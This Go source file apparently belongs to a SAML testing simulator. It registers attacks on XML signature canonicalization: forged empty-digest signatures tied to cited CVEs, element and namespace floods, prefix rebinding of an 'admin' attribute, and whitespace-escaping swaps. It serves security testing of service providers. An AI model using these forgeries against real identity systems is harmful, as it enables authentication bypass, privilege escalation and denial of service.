package forge

import (
	"bytes"
	"fmt"
	"strings"

	"github.com/beevik/etree"

	"rollcall.example/simulator/forge/dsig"
	"rollcall.example/simulator/idp"
)

// Canonicalization that comes to nothing. A library that cannot canonicalize (a
// namespace that is no absolute URI is enough for some) may return an empty text, and a
// digest of nothing is known to everybody. The signatures here stand for those that an
// identity provider once made over an empty text.
func init() {
	for _, void := range []struct{ row, name, called, namespace string }{
		{"C14-01", "relative", "relative", "1"},
		{"C14-03", "space", "no URI, as it has a space in it,", "http://a b"},
		{"C14-04", "control", "no URI, as it has a control character in it,", "http://example.com\u0080"},
		{"C14-05", "address", "no URI, as its address is none,", "http://[::1"},
		{"C14-05", "percent", "no URI, as it has a stray percent sign in it,", "http://a/%zz"},
	} {
		register("c14n", voidDigest(Attack{
			Row: void.row, Name: "void-digest-" + void.name,
			Summary: "has a signed digest of nothing, and a namespace that is " + void.called + " in its assertion",
		}, void.namespace, func(*dsig.Signature) {}))
	}
	for _, form := range []struct{ row, name, called, canonicalization, digest string }{
		{"C14-06", "inclusive", "inclusive canonicalization", dsig.Inclusive, ""},
		{"C14-06", "inclusive-new", "inclusive canonicalization 1.1", dsig.Inclusive11, ""},
		{"C14-07", "sha-one", "SHA-1", "", dsig.SHA1},
		{"C14-07", "sha-five-twelve", "SHA-512", "", dsig.SHA512},
	} {
		register("c14n", voidDigest(Attack{
			Row: form.row, Name: "void-digest-" + form.name,
			Summary: "has a signed digest of nothing by " + form.called + ", and a relative namespace in its assertion",
		}, "1", func(s *dsig.Signature) {
			s.References[0].Digest = form.digest
			if form.canonicalization != "" {
				s.References[0].Transforms[1] = dsig.Transform{Algorithm: form.canonicalization}
			}
		}))
	}
	register("c14n", Attack{
		Row: "C14-02", Name: "void-signed-info", Modes: Alone, Sources: fragileLock,
		Summary: "is signed with a signature over nothing, and has a relative namespace in its SignedInfo",
		forged:  true,
		sign: signing(func(d Donor, s *dsig.Signature) error {
			s.Key = overNothing{dsig.RSA{Key: d.key()}}
			s.Bend = func(signedInfo *etree.Element) error {
				signedInfo.CreateAttr("xmlns:x", "rel")
				return nil
			}
			return nil
		}),
	})
}

var fragileLock = []string{"CVE-2025-66568", "CVE-2025-66475", "CVE-2026-79772", "PortSwigger, The Fragile Lock (2025)"}

// voidDigest makes an attack of a genuine signature over a digest of nothing, in an
// element that names the victim and declares that namespace.
func voidDigest(a Attack, namespace string, bend func(*dsig.Signature)) Attack {
	a.Rule, a.Modes, a.Sources = "void-digest", Alone, fragileLock
	a.Precondition = "takes a canonical form that could not be made for an empty one"
	a.forged = true
	a.draft = onSigned(func(_ Donor, el *etree.Element) error {
		el.CreateAttr("xmlns:x", namespace)
		return nil
	})
	a.sign = signing(func(_ Donor, s *dsig.Signature) error {
		s.References[0].Octets = []byte{}
		bend(s)
		return nil
	})
	return a
}

// overNothing signs nothing, whatever it is given.
type overNothing struct{ key dsig.RSA }

// Sign implements [dsig.Key].
func (k overNothing) Sign(algorithm string, _ []byte) ([]byte, error) {
	return k.key.Sign(algorithm, nil)
}

// Canonical forms that are cut short, that take too long, or that do not tell texts
// apart which differ.
func init() {
	register("c14n",
		Attack{
			Row: "C14-08", Name: "beyond-the-limit", Modes: OnResponse, NoCrash: true, Sources: []string{"GHSA-qhrp-hfff-vphr"},
			Summary:      "has a signed digest of nothing, and more elements than a canonicalizer may take",
			Precondition: "takes a canonical form that could not be made for an empty one",
			forged:       true,
			draft:        inExtensions,
			sign: signing(func(_ Donor, s *dsig.Signature) error {
				s.References[0].Octets = []byte{}
				return nil
			}),
			bytes: marked(fixed(strings.Repeat(`<x:f xmlns:x="urn:rollcall:fill"/>`, 1200))),
		},
		Attack{
			Row: "C14-09", Name: "namespace-tower", Modes: OnAssertion, Expect: Harmless, NoCrash: true,
			Summary: "declares forty namespaces on each of forty elements, one in the other, where nothing is signed",
			Sources: []string{"CVE-2026-113729", "GHSA-qhrp-hfff-vphr"},
			draft:   inExtensions,
			bytes:   marked(fixed(tower(40, 40))),
		},
		Attack{
			Row: "C14-10", Name: "type-prefix-rebound", Modes: OnAssertion, Expect: Harmless, NoCrash: true,
			Summary: "gives the types of its values another meaning by a prefix that the signature does not cover",
			claims:  says(func(c *idp.Claims) { c.Attributes = replaced(c.Attributes, "admin", "false") }),
			draft: func(_ Donor, draft *idp.Draft) error {
				draft.Signer.PrefixList = ""
				return nil
			},
			document: func(_ Donor, draft *idp.Draft) error {
				return change(draft.Assertion, "AttributeStatement/Attribute/AttributeValue", "xmlns:xs", "urn:rollcall:other")
			},
		},
		Attack{
			Row: "C14-11", Name: "inclusive-elsewhere", Modes: OnAssertion,
			Summary: "holds an assertion that was signed on its own by inclusive canonicalization, which takes in what stands around it",
			sign: signing(func(_ Donor, s *dsig.Signature) error {
				alone := s.References[0].Over.Copy()
				form, err := dsig.Canonical(alone, dsig.Inclusive, "")
				s.References[0].Octets = form
				s.References[0].Transforms[1] = dsig.Transform{Algorithm: dsig.Inclusive}
				return err
			}),
		},
		Attack{
			Row: "C14-12", Name: "line-break-in-attribute", Rule: "white-space-kept-apart", Modes: Alone,
			Summary: "has a line break in an attribute where a reference to one was signed",
			draft:   set("Subject/NameID", "SPProvidedID", func(Donor) string { return "first\nsecond" }),
			bytes:   func(_ Donor, xml []byte) ([]byte, error) { return swap(xml, "first&#xA;second", "first\nsecond") },
		},
		Attack{
			Row: "C14-12", Name: "tab-in-attribute", Rule: "white-space-kept-apart", Modes: Alone,
			Summary: "has a tabulator in an attribute where a reference to one was signed",
			draft:   set("Subject/NameID", "SPProvidedID", func(Donor) string { return "first\tsecond" }),
			bytes:   func(_ Donor, xml []byte) ([]byte, error) { return swap(xml, "first&#x9;second", "first\tsecond") },
		},
		Attack{
			Row: "C14-12", Name: "return-in-text", Rule: "white-space-kept-apart", Modes: Alone,
			Summary: "has a carriage return in a text where a reference to one was signed",
			draft: func(_ Donor, draft *idp.Draft) error {
				context, err := find(draft.Assertion, "AuthnStatement/AuthnContext")
				if err == nil {
					context.CreateElement("saml2:AuthenticatingAuthority").SetText("urn:first\rsecond")
				}
				return err
			},
			bytes: func(_ Donor, xml []byte) ([]byte, error) { return swap(xml, "first&#xD;second", "first\rsecond") },
		},
		Attack{
			Row: "C14-13", Name: "inherited-language", Rule: "inherited-attributes", Modes: OnAssertion,
			Summary: "was given a language around an assertion that is signed by inclusive canonicalization",
			sign:    signing(inclusively), around: speaking("xml:lang", "en"),
		},
		Attack{
			Row: "C14-13", Name: "inherited-base", Rule: "inherited-attributes", Modes: OnAssertion,
			Summary: "was given a base address around an assertion that is signed by inclusive canonicalization",
			sign:    signing(inclusively), around: speaking("xml:base", Elsewhere),
		},
		Attack{
			Row: "C14-13", Name: "namespace-around-exclusive", Modes: OnAssertion, Expect: Accept,
			Summary: "was given a namespace that nothing uses around an assertion that is signed by exclusive canonicalization",
			around:  speaking("xmlns:unused", "urn:rollcall:unused"), // the schema has no room for a language there
		},
	)
}

// inclusively canonicalizes the element in its place, with what is in scope there.
func inclusively(_ Donor, s *dsig.Signature) error {
	s.References[0].Transforms[1] = dsig.Transform{Algorithm: dsig.Inclusive}
	return nil
}

// speaking gives the response an attribute that inclusive canonicalization hands down.
func speaking(attribute, value string) func(Donor, *idp.Draft) error {
	return func(_ Donor, draft *idp.Draft) error {
		draft.Response.CreateAttr(attribute, value)
		return nil
	}
}

// inExtensions puts the mark into Extensions of the response.
func inExtensions(_ Donor, draft *idp.Draft) error {
	place, err := extensions(draft.Response)
	if err == nil {
		place.SetText(mark)
	}
	return err
}

// tower is a heap of elements that declare namespaces of their own.
func tower(depth, width int) string {
	var b bytes.Buffer
	for level := range depth {
		fmt.Fprintf(&b, "<n%d:e", level*width)
		for n := range width {
			fmt.Fprintf(&b, ` xmlns:n%d="urn:rollcall:n%d"`, level*width+n, level*width+n)
		}
		b.WriteByte('>')
	}
	for level := range depth {
		fmt.Fprintf(&b, "</n%d:e>", (depth-1-level)*width)
	}
	return b.String()
}
